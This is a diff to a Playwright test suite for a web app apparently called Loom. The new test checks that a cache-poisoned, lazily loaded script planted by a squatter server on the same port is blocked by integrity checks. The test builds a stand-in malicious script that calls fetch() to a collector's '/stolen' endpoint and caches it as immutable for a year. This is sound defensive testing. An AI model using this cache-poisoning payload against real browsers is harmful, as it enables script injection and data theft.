@@ -7,7 +7,8 @@ import { expect, test, type Page } from '@playwright/test';
 import { Daemon } from '../daemon.ts';
 
 const assets = readdirSync(new URL('../../dist/web/assets', import.meta.url)).map((name) => `/assets/${name}`);
-const script = assets.find((name) => name.endsWith('.js')) ?? '';
+const later = assets.find((name) => name.includes('estimator')) ?? '';
+const script = assets.find((name) => /\/index-.*\.js$/.test(name)) ?? '';
 
 type Answer = (request: IncomingMessage, response: ServerResponse) => void;
 
@@ -105,6 +106,34 @@ test('assets left in the cache under the names of Loom’s own are not run', asy
   // The person asks for the page past the cache, as browsers do with Shift, and is in.
   const devtools = await page.context().newCDPSession(page);
   await devtools.send('Page.reload', { ignoreCache: true });
+  await expectIn(page);
+  expect(brought).toHaveLength(1);
+  await place.leave();
+});
+
+test('nor are those that Loom loads later', async ({ page }) => {
+  const { brought, place } = await collector();
+  const steal = `fetch('${place.origin}/stolen', { mode: 'no-cors' });`;
+  const squatter = await Squatter.on(0, (request, response) => {
+    const year = 'public, max-age=31536000, immutable';
+    if (request.url === later) send(response, 'text/javascript', steal, year);
+    else send(response, 'text/html', `<!doctype html><script type="module">import '${later}';</script>`);
+  });
+  await page.goto(squatter.origin);
+  await expect.poll(() => brought.length).toBe(1);
+  await page.goto('about:blank');
+  await squatter.leave();
+
+  const daemon = await loomOn(squatter.port);
+  await page.goto(await daemon.url());
+  const said: string[] = [];
+  page.on('console', (message) => said.push(message.text()));
+  const passphrase = page.getByRole('textbox', { name: 'Passphrase' });
+  await passphrase.fill('correct horse');
+  await expect.poll(() => said.some((text) => text.includes('integrity'))).toBe(true);
+  // A passphrase is chosen all the same, unjudged.
+  await page.getByRole('textbox', { name: 'Your name' }).fill('Ann');
+  await page.getByRole('button', { name: 'Create my identity' }).click();
   await expectIn(page);
   expect(brought).toHaveLength(1);
   await place.leave();
